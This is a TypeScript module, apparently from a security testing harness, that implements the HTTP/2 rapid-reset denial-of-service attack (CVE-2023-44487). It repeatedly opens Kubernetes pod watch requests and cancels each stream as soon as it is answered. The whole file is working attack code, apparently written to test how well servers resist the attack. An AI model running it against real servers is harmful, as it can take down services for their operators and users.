// Watches that are cancelled as soon as they are answered.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2023-44487',
  does: 'opens watches and resets them when they are answered',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const loop = closedLoop(connection, 100, request(head(target, 'GET', '/api/v1/pods?watch=true')))
      return {
        ...loop,
        head(stream) {
          connection.send(h2.rstStream(stream, h2.CANCEL))
          loop.ended?.(stream)
        },
      }
    }),
}
